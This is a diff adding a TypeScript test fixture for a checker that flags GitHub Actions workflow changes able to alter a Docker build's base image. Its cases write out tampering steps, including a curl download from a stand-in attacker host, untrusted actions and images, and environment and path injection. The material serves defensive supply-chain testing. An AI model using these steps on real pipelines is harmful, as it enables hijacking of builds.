@@ -1,0 +1,407 @@
+import type { BuildChangeRow } from './build-changes.js';
+
+const GOOD = 'debian:trixie-slim';
+const EVIL = 'evil.example/x:1';
+const FLOW = '.github/workflows/a.yml';
+const UNRESOLVED = ['Dockerfile:2 unresolved'];
+const FILES = {
+  Dockerfile: `ARG BASE=${GOOD}\nFROM $BASE\n`,
+  'v.env': `B=${GOOD}\n`,
+  't.sh': 'echo $Q\n',
+  'w.env': 'x\n',
+};
+
+const expression = (text: string) => `\${{ ${text} }}`;
+const run = (script: string, more = '') => `{ run: ${JSON.stringify(script)}${more} }`;
+const build = (value: string, more = '') => run(`docker build --build-arg BASE=${value} .`, more);
+const output = (script: string, more = '') => run(script, `, id: s${more}`);
+const BUILT = build(expression('steps.s.outputs.v'));
+const CHECKOUT = '{ uses: actions/checkout@v4 }';
+const job = (steps: readonly string[], more = '') =>
+  `    runs-on: ubuntu-latest\n${more}    steps:\n${[CHECKOUT, ...steps].map((step) => `      - ${step}\n`).join('')}`;
+
+interface Parts {
+  readonly steps: readonly string[];
+  readonly top?: string;
+  readonly more?: string;
+  readonly others?: string;
+}
+
+const flow = ({ steps, top = '', more = '', others = '' }: Parts): string =>
+  `on: push\n${top}jobs:\n${others}  build:\n${job(steps, more)}`;
+
+const change = (
+  name: string,
+  from: Parts,
+  to: Partial<Parts>,
+  { found = UNRESOLVED, base = {}, ...more }: Partial<BuildChangeRow> = {},
+): BuildChangeRow => ({
+  name: `made from: ${name}`,
+  base: { ...FILES, ...base, [FLOW]: flow(from) },
+  change: { [FLOW]: flow({ ...from, ...to }) },
+  found,
+  ...more,
+});
+
+const OLD = { found: [] };
+
+/** What programs find in their environment changes. */
+const environment = (
+  name: string,
+  steps: readonly string[],
+  more: Partial<BuildChangeRow> = {},
+): BuildChangeRow =>
+  change(
+    `a variable of the job, ${name}`,
+    { steps, more: `    env: { Q: "${GOOD}" }\n` },
+    { more: `    env: { Q: "${EVIL}" }\n` },
+    more,
+  );
+
+const READING = [
+  '$(printenv Q)',
+  `$(python3 -c 'import os; print(os.environ["Q"])')`,
+  '$(./t.sh)',
+  '$(env | sed -n s/^Q=//p)',
+  '$(set | sed -n s/^Q=//p)',
+  '$(awk "BEGIN { print ENVIRON[\\"Q\\"] }")',
+  '$(jq -rn env.Q)',
+  `$(N=Q; echo $\{!N} | tr A-Z a-z)`,
+];
+
+const VARIABLES: readonly BuildChangeRow[] = [
+  ...READING.map((value) => environment(value, [build(value)])),
+  ...READING.map((value) =>
+    environment(`for an output of ${value}`, [output(`echo "v=${value}" >> $GITHUB_OUTPUT`), BUILT]),
+  ),
+  ...['$(envsubst < w.env)', '$(. ./t.sh)'].map((value) =>
+    environment(`for ${value}`, [build(value)], { found: ['Dockerfile:2 unreadable', ...UNRESOLVED] }),
+  ),
+  environment('for a written variable', [run('./t.sh >> $GITHUB_ENV'), build('$B')], {
+    found: [`${FLOW}:9 unresolved`, ...UNRESOLVED],
+    noted: [FLOW],
+  }),
+  environment('for flags', [run('docker build $(./t.sh) .')], { noted: [FLOW] }),
+  change(
+    'a variable of the step',
+    { steps: [build('$(./t.sh)', `, env: { Q: "${GOOD}" }`)] },
+    { steps: [build('$(./t.sh)', `, env: { Q: "${EVIL}" }`)] },
+  ),
+  change(
+    'a variable of the workflow',
+    { steps: [build('$(./t.sh)')], top: `env: { Q: "${GOOD}" }\n` },
+    { top: `env: { Q: "${EVIL}" }\n` },
+  ),
+  change(
+    'a variable of the container',
+    { steps: [build('$(./t.sh)')], more: `    container: { image: docker, env: { Q: "${GOOD}" } }\n` },
+    { more: `    container: { image: docker, env: { Q: "${EVIL}" } }\n` },
+  ),
+  change(
+    'options of the container',
+    { steps: [build('$(./t.sh)')], more: `    container: { image: docker, options: "-e Q=${GOOD}" }\n` },
+    { more: `    container: { image: docker, options: "-e Q=${EVIL}" }\n` },
+  ),
+  change(
+    'a variable that a matrix decides',
+    {
+      steps: [build('$(./t.sh)')],
+      more: `    strategy: { matrix: { q: ["${GOOD}"] } }\n    env: { Q: "${expression('matrix.q')}" }\n`,
+    },
+    { more: `    strategy: { matrix: { q: ["${EVIL}"] } }\n    env: { Q: "${expression('matrix.q')}" }\n` },
+  ),
+  change(
+    'a variable that a step before writes',
+    { steps: [run(`echo Q=${GOOD} >> $GITHUB_ENV`), build('$(./t.sh)')] },
+    { steps: [run(`echo Q=${EVIL} >> $GITHUB_ENV`), build('$(./t.sh)')] },
+  ),
+  change(
+    'a variable that a new step before writes',
+    { steps: [build('$(./t.sh)')] },
+    { steps: [run(`echo Q=${EVIL} >> $GITHUB_ENV`), build('$(./t.sh)')] },
+  ),
+  change(
+    'a variable that the script sets',
+    { steps: [run(`export Q=${GOOD}\ndocker build --build-arg BASE=$(./t.sh) .`)] },
+    { steps: [run(`export Q=${EVIL}\ndocker build --build-arg BASE=$(./t.sh) .`)] },
+  ),
+  change(
+    'a variable for an action of the repository',
+    { steps: ['{ uses: ./act, id: s }', BUILT], more: `    env: { Q: "${GOOD}" }\n` },
+    { more: `    env: { Q: "${EVIL}" }\n` },
+    {
+      base: {
+        'act/action.yml': 'runs: { using: node20, main: m.js }\noutputs: { v: { description: x } }\n',
+        'act/m.js': 'x',
+      },
+    },
+  ),
+  change(
+    'a variable of the step that uses an action of steps',
+    { steps: [`{ uses: ./act, env: { Q: "${GOOD}" } }`] },
+    { steps: [`{ uses: ./act, env: { Q: "${EVIL}" } }`] },
+    {
+      base: {
+        'act/action.yml':
+          'runs: { using: composite, steps: [{ shell: bash, run: "docker build --build-arg BASE=$(./t.sh) ." }] }\n',
+      },
+    },
+  ),
+  change(
+    'a folder of the path',
+    { steps: [build('$(cat v.env)')] },
+    { steps: [run('echo $PWD/bin >> $GITHUB_PATH'), build('$(cat v.env)')] },
+  ),
+  // what takes no part
+  environment('for programs that take nothing of it', [build('$(date +%Y | tr -d 2)')], OLD),
+  environment('for a file that is printed', [build('$(cat v.env | cut -d= -f2)')], OLD),
+  environment('for what git says', [build('$(git rev-parse HEAD)')], OLD),
+  environment('for a value of another place', [build(expression('vars.B'))], OLD),
+  environment('for an output of other variables', [output('echo "v=$X" >> $GITHUB_OUTPUT'), BUILT], OLD),
+  change(
+    'a variable of another job',
+    { steps: [build('$(./t.sh)')], others: `  other:\n${job([run('make')], '    env: { Q: a }\n')}` },
+    { others: `  other:\n${job([run('make')], '    env: { Q: b }\n')}` },
+    OLD,
+  ),
+  change(
+    'a variable that a later step writes',
+    { steps: [build('$(./t.sh)')] },
+    { steps: [build('$(./t.sh)'), run(`echo Q=${EVIL} >> $GITHUB_ENV`)] },
+    OLD,
+  ),
+];
+
+const WRITING: readonly string[] = [
+  run(`echo B=${EVIL} > v.env`),
+  run('cp w.env v.env'),
+  run('cp -r other/. .'),
+  run('mv w.env v.env'),
+  run('ln -sf w.env v.env'),
+  run('sed -i s/trixie/bookworm/ v.env'),
+  run('git checkout evil -- v.env'),
+  run('git apply p.patch'),
+  run('./t.sh'),
+  run('npm run generate'),
+  run('curl -o v.env https://evil.example'),
+  run(`cd conf; echo B=${EVIL} | tee ../v.env`),
+  run(`python3 - <<X\nopen("v"+".env","w")\nX`),
+  run(`F=v.env; echo B=${EVIL} > $F`),
+  run('echo "$X"', ', shell: "python {0}"'),
+  '{ uses: actions/download-artifact@v4, with: { name: v } }',
+  '{ uses: actions/cache@v4, with: { path: v.env, key: k } }',
+  '{ uses: evil/action@v1 }',
+  '{ uses: docker://evil.example/x }',
+  '{ uses: ./act }',
+  '{ uses: actions/checkout@v4, with: { repository: evil/x, path: conf } }',
+  '{ uses: actions/github-script@v7, with: { script: "require(\'fs\').writeFileSync(n, x)" } }',
+  '{ uses: docker/build-push-action@v6, with: { outputs: "type=local,dest=." } }',
+];
+const ACTION = {
+  'act/action.yml': 'runs: { using: composite, steps: [{ shell: bash, run: "cp w.env v.env" }] }\n',
+};
+
+/** Steps that do not write it. */
+const IDLE: readonly string[] = [
+  run('echo hello; ls; cat w.env; date'),
+  run('echo B=x > other.txt'),
+  run('mkdir -p conf; cp w.env conf/x'),
+  run('git status; git log -1; docker login -u x'),
+  run('echo A=1 >> $GITHUB_ENV'),
+  run('if [ -n "$X" ]; then echo yes; fi'),
+  '{ uses: actions/setup-node@v4, with: { node-version: 22 } }',
+  '{ uses: docker/setup-buildx-action@v3 }',
+  '{ uses: actions/upload-artifact@v4, with: { path: v.env } }',
+  '{ uses: ./act }',
+];
+
+const FILES_BEFORE: readonly BuildChangeRow[] = [
+  ...WRITING.map((step) =>
+    change(
+      `a new step before: ${step}`,
+      { steps: [build('$(cat v.env)')] },
+      { steps: [step, build('$(cat v.env)')] },
+      { base: ACTION, noted: step.includes('apply') ? [FLOW] : [] },
+    ),
+  ),
+  ...WRITING.slice(0, 6).map((step) =>
+    change(
+      `a new step before what is written for later ones: ${step}`,
+      { steps: [run('cat v.env >> $GITHUB_ENV'), build('$B')] },
+      { steps: [step, run('cat v.env >> $GITHUB_ENV'), build('$B')] },
+      { base: ACTION },
+    ),
+  ),
+  ...IDLE.map((step) =>
+    change(
+      `an idle step before: ${step}`,
+      { steps: [build('$(cat v.env)')] },
+      { steps: [step, build('$(cat v.env)')] },
+      {
+        ...OLD,
+        base: {
+          'act/action.yml':
+            'runs: { using: composite, steps: [{ shell: bash, run: "echo a; cat w.env" }] }\n',
+        },
+      },
+    ),
+  ),
+  change(
+    'a step behind it',
+    { steps: [build('$(cat v.env)')] },
+    { steps: [build('$(cat v.env)'), run(`echo B=${EVIL} > v.env`)] },
+    OLD,
+  ),
+  change(
+    'a step before that takes no part in a known program',
+    { steps: [build('$(./t.sh)')] },
+    { steps: [run('echo "echo evil" > t.sh'), build('$(./t.sh)')] },
+  ),
+  ...['v.txt', '/tmp/v.txt', '$RUNNER_TEMP/v.txt', `"${expression('runner.temp')}/v.txt"`].map((path) =>
+    change(
+      `a file that the repository does not have: ${path}`,
+      { steps: [run(`echo ${GOOD} > ${path}`), build(`$(cat ${path})`)] },
+      { steps: [run(`echo ${EVIL} > ${path}`), build(`$(cat ${path})`)] },
+    ),
+  ),
+  change(
+    'what a step before takes from a variable',
+    { steps: [run('echo $X > v.txt'), build('$(cat v.txt)')], more: `    env: { X: "${GOOD}" }\n` },
+    { more: `    env: { X: "${EVIL}" }\n` },
+  ),
+  change(
+    'what a step before takes from a matrix',
+    {
+      steps: [run(`echo ${expression('matrix.x')} > v.txt`), build('$(cat v.txt)')],
+      more: `    strategy: { matrix: { x: ["${GOOD}"] } }\n`,
+    },
+    { more: `    strategy: { matrix: { x: ["${EVIL}"] } }\n` },
+  ),
+  change(
+    'what a step before takes from an output',
+    {
+      steps: [
+        output(`echo v=${GOOD} >> $GITHUB_OUTPUT`),
+        run(`echo ${expression('steps.s.outputs.v')} > v.txt`),
+        build('$(cat v.txt)'),
+      ],
+    },
+    {
+      steps: [
+        output(`echo v=${EVIL} >> $GITHUB_OUTPUT`),
+        run(`echo ${expression('steps.s.outputs.v')} > v.txt`),
+        build('$(cat v.txt)'),
+      ],
+    },
+  ),
+  change(
+    'a file that a step before copies on',
+    { steps: [run(`echo ${GOOD} > a`), run('cp a v.txt'), build('$(cat v.txt)')] },
+    { steps: [run(`echo ${EVIL} > a`), run('cp a v.txt'), build('$(cat v.txt)')] },
+  ),
+  change(
+    'an earlier job that hands a file on',
+    {
+      steps: ['{ uses: actions/download-artifact@v4 }', build('$(cat v.txt)')],
+      more: '    needs: a\n',
+      others: `  a:\n${job([run(`echo ${GOOD} > v.txt`), '{ uses: actions/upload-artifact@v4, with: { path: v.txt } }'])}`,
+    },
+    {
+      others: `  a:\n${job([run(`echo ${EVIL} > v.txt`), '{ uses: actions/upload-artifact@v4, with: { path: v.txt } }'])}`,
+    },
+  ),
+  change(
+    'a step before the one that uses an action',
+    { steps: ['{ uses: ./act }'] },
+    { steps: [run(`echo ${EVIL} > v.env`), '{ uses: ./act }'] },
+    {
+      base: {
+        'act/action.yml':
+          'runs: { using: composite, steps: [{ shell: bash, run: "docker build --build-arg BASE=$(cat v.env) ." }] }\n',
+      },
+    },
+  ),
+  change(
+    'the version of an action of the runner',
+    {
+      steps: ['{ uses: actions/cache@v3, with: { path: x, key: k } }', run('npm ci'), build('$(cat v.env)')],
+    },
+    {
+      steps: [
+        '{ uses: actions/cache@v4, with: { path: x, key: k } }',
+        run('npm ci', ', name: Install'),
+        build('$(cat v.env)'),
+      ],
+    },
+    OLD,
+  ),
+  change(
+    'steps before in another order',
+    { steps: [run('./a.sh'), run('./b.sh'), build('$(cat v.env)')] },
+    { steps: [run('./b.sh'), run('./a.sh'), build('$(cat v.env)')] },
+  ),
+];
+
+const CALLED = '.github/workflows/r.yml';
+const CALLING = `on: push\njobs:\n  a:\n${job([run(`echo ${GOOD} > v.txt`), '{ uses: actions/upload-artifact@v4 }'])}  c: { needs: a, uses: ./${CALLED} }\n`;
+const TAKING = flow({ steps: ['{ uses: actions/download-artifact@v4 }', build('$(cat v.txt)')] }).replace(
+  'on: push',
+  'on: workflow_call',
+);
+
+/** Workflows that another one runs: what its jobs have handed on before counts, and its variables do not. */
+const CALLS: readonly BuildChangeRow[] = [
+  {
+    name: 'made from: a job of the workflow that runs another one',
+    base: { ...FILES, [FLOW]: CALLING, [CALLED]: TAKING },
+    change: { [FLOW]: CALLING.replace(`echo ${GOOD}`, `echo ${EVIL}`) },
+    found: UNRESOLVED,
+  },
+  {
+    name: 'made from: a variable of the workflow that runs another one',
+    base: { ...FILES, [FLOW]: `env: { Q: a }\n${CALLING}`, [CALLED]: TAKING.replace('cat v.txt', './t.sh') },
+    change: { [FLOW]: `env: { Q: a, R: b }\n${CALLING}` },
+    found: UNRESOLVED,
+  },
+  {
+    name: 'made from: a variable of the workflow that runs another one, which takes no files',
+    base: {
+      ...FILES,
+      [FLOW]: `env: { Q: a }\n${CALLING}`,
+      [CALLED]: flow({ steps: [build('$(./t.sh)')] }).replace('on: push', 'on: workflow_call'),
+    },
+    change: { [FLOW]: `env: { Q: a, R: b }\n${CALLING}` },
+    found: [],
+  },
+];
+
+/** Files that steps before name. */
+const named = (
+  name: string,
+  step: string,
+  path: string,
+  more: Partial<BuildChangeRow> = {},
+): BuildChangeRow => ({
+  name: `made from: ${path} of a step before, ${name}`,
+  base: { ...FILES, [path]: 'a\n', [FLOW]: flow({ steps: [step, build('$(cat v.env)')] }) },
+  change: { [path]: 'b\n' },
+  found: UNRESOLVED,
+  ...more,
+});
+
+const NAMED: readonly BuildChangeRow[] = [
+  named('which runs it', run('./tools/x.sh'), 'tools/x.sh'),
+  named('which runs it in a language', run('python3 tools/x.py --all'), 'tools/x.py'),
+  named('which copies it', run('cp conf/a.env v.env'), 'conf/a.env'),
+  named('which does what it says', run('make prepare'), 'Makefile'),
+  named('which takes packages from it', run('npm ci && npm test'), 'package.json', OLD),
+  named('which looks at many', run('npx prettier --check "**/*.md"'), 'docs/a.md', OLD),
+  named('which does not write the file', run('cat tools/x.sh > y'), 'tools/x.sh', OLD),
+];
+
+export const MADE_FROM_CHANGES: readonly BuildChangeRow[] = [
+  ...VARIABLES,
+  ...FILES_BEFORE,
+  ...CALLS,
+  ...NAMED,
+];
